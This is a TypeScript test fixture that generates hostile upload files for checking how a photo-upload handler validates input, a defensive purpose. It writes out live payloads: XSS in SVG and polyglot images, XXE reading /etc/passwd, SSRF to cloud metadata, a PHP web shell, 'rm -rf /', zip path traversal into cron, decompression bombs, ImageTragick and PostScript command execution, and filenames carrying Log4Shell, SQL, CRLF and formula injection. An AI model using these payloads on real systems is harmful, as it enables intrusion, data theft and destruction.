import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { hostileDocuments } from './hostile-documents.ts';

export type HostileFile = { readonly what: string; readonly name: string; readonly bytes: Uint8Array };

const script = '<script>alert(document.domain)</script>';
const html = `<!doctype html><html><body onload="alert(1)">${script}</body></html>`;
const text = (content: string) => new Uint8Array(Buffer.from(content, 'utf8'));
const join = (...parts: (Uint8Array | string)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => Buffer.from(part as Uint8Array))));

/** Drawings that run, load, or reach out. */
const drawings = [
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe srcdoc="${script}"/></foreignObject></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:5432/"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><use href="http://elsewhere.example/x.svg#a"/></svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
  `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;&b;&b;</svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(1)" attributeName="x"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"/>`,
];

/** What no photo is, under the name of one. */
const others: [string, Uint8Array][] = [
  ['page', text(html)],
  ['page after white space', text(`\n\n   ${html}`)],
  ['page with a byte order mark', text(`\ufeff${html}`)],
  ['page in UTF-16', new Uint8Array(Buffer.from(html, 'utf16le'))],
  ['page in UTF-7', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['script', text('alert(1)')],
  ['server page', text('<?php system($_GET[0]); ?>')],
  ['shell script', text('#!/bin/sh\nrm -rf /')],
  ['program for Windows', join('MZ', new Uint8Array(200))],
  ['program for Linux', join(new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), new Uint8Array(200))],
  ['gzip bomb', new Uint8Array(gzipSync(new Uint8Array(20_000_000)))],
  ['zip with a path that climbs', zipOf('../../../../etc/cron.d/x', text('* * * * * root id'))],
  ['zip that unpacks to much', zipOf('a', new Uint8Array(8_000_000))],
  ['office file', zipOf('word/document.xml', text('<w:document/>'))],
  [
    'java archive after a picture',
    join(new Uint8Array([0x47, 0x49, 0x46, 0x38, 0x39, 0x61]), zipOf('A.class', text('x'))),
  ],
  ['animated GIF', text('GIF89a/*\u0001\u0000*/=1;alert(1)')],
  ['bitmap that is a script', text('BM=1;alert(1)//')],
  ['icon', new Uint8Array([0, 0, 1, 0, 1, 0, 1, 1])],
  ['flash', text('CWS\u0006')],
  ['XML with a style sheet', text('<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><x/>')],
  ['mail', text('MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>')],
  ['shortcut', text('[InternetShortcut]\nURL=file:///etc/passwd')],
  ['link to elsewhere', text('http://169.254.169.254/latest/meta-data/')],
  [
    'ImageMagick script',
    text('push graphic-context\nimage over 0,0 0,0 "https://elsewhere.example/x"\npop graphic-context'),
  ],
  ['PostScript', text('%!PS\n(%pipe%id) (w) file')],
  ['nothing', new Uint8Array()],
  ['one byte', new Uint8Array([0xff])],
  ['zeros', new Uint8Array(4096)],
  ['the start of a JPEG and no more', new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16])],
  ['the start of a PNG and no more', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])],
];

/** Names that climb, hide, deceive, or are none. */
const names = [
  ...[
    '../../etc/passwd.jpg',
    '..\\..\\windows\\win.ini.jpg',
    '/etc/passwd',
    'C:\\a.jpg',
    'a/b/c.jpg',
    '.htaccess',
    '..',
  ],
  ...[
    'photo.jpg\u0000.html',
    'photo\u202egpj.exe',
    '<img src=x onerror=alert(1)>.jpg',
    '"; filename="x.html',
    'a\r\nSet-Cookie: b=1.jpg',
  ],
  ...[
    'x.jpg.html',
    'x.html',
    'x.svg',
    'CON.jpg',
    `${'n'.repeat(5000)}.jpg`,
    ' ',
    '',
    '\u{1f4a3}.jpg',
    '%2e%2e%2fpasswd.jpg',
  ],
  ...[
    '=cmd|calc!A0.jpg',
    '$\u007bjndi:ldap://elsewhere.example/a}.jpg',
    "'; DROP TABLE attachment; --.jpg",
    '\u2066a\u2069.jpg',
  ],
];

/** A photo with the place where it was taken, whose camera, and words in every corner that takes some. */
const told = {
  exif: {
    IFD0: {
      Artist: '机主张三',
      Copyright: '机主张三',
      Make: 'CameraMaker',
      ImageDescription: '机主张三家门口',
    },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '30/1 15/1 0/1',
      GPSLongitudeRef: 'E',
      GPSLongitude: '120/1 10/1 0/1',
    },
  },
};
const plain = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#3366cc' } });

/** At least eighty files that somebody would send on purpose. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await plain().withExif(told.exif).jpeg().toBuffer();
  const png = await plain().withExif(told.exif).png().toBuffer();
  const webp = await plain().withExif(told.exif).webp().toBuffer();
  const comment = Buffer.from(`机主张三${script}`);
  const length = Buffer.from([0xff, 0xfe, 0, 0]);
  length.writeUInt16BE(comment.length + 2, 2);
  const pictures: [string, Uint8Array][] = [
    ['JPEG with a place', jpeg],
    ['PNG with a place', png],
    ['WebP with a place', webp],
    ['JPEG with a comment that is a script', join(jpeg.subarray(0, 2), length, comment, jpeg.subarray(2))],
    ['JPEG and a page behind it', join(jpeg, html)],
    ['PNG and a page behind it', join(png, html)],
    ['WebP and a zip behind it', join(webp, zipOf('A.class', text('机主张三')))],
    ['JPEG cut off', jpeg.subarray(0, jpeg.length - 60)],
    ['PNG flood of pixels', pngHeader(100_000, 100_000)],
    ['PNG one pixel high and very wide', pngHeader(2_000_000_000, 1)],
    ['PNG without width', pngHeader(0, 0)],
    ['PNG that inflates to much', pngHeader(30_000, 30_000)],
    [
      'PNG whose text chunk is a page',
      join(png.subarray(0, 33), chunk('tEXt', text(`机主张三\u0000${html}`)), png.subarray(33)),
    ],
  ];
  return [
    ...drawings.map((drawing, at) => ({
      what: `drawing ${at + 1}`,
      name: 'photo.jpg',
      bytes: text(drawing),
    })),
    ...others.map(([what, bytes]) => ({ what, name: 'photo.png', bytes })),
    ...pictures.map(([what, bytes]) => ({ what, name: 'photo.jpg', bytes })),
    ...hostileDocuments(new Uint8Array(jpeg)).map(([what, bytes]) => ({ what, name: 'letter.pdf', bytes })),
    ...names.map((name) => ({
      what: `name ${JSON.stringify(name).slice(0, 60)}`,
      name,
      bytes: new Uint8Array(jpeg),
    })),
  ];
}

function chunk(type: string, data: Uint8Array): Uint8Array {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  // Readers of today tolerate a wrong checksum in a chunk that they may skip, or refuse the file; both will do.
  return join(length, type, data, new Uint8Array(4));
}

function pngHeader(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const body = deflateSync(new Uint8Array(1_000_000));
  const start = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return join(start, chunk('IHDR', header), chunk('IDAT', body), chunk('IEND', new Uint8Array()));
}

/** A zip of one file, without checksums: enough for whatever looks at its start or its directory. */
function zipOf(name: string, content: Uint8Array): Uint8Array {
  const body = deflateSync(content).subarray(2, -4);
  const head = Buffer.alloc(30);
  head.write('PK\u0003\u0004', 'latin1');
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(body.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(Buffer.byteLength(name), 26);
  return join(head, name, body);
}
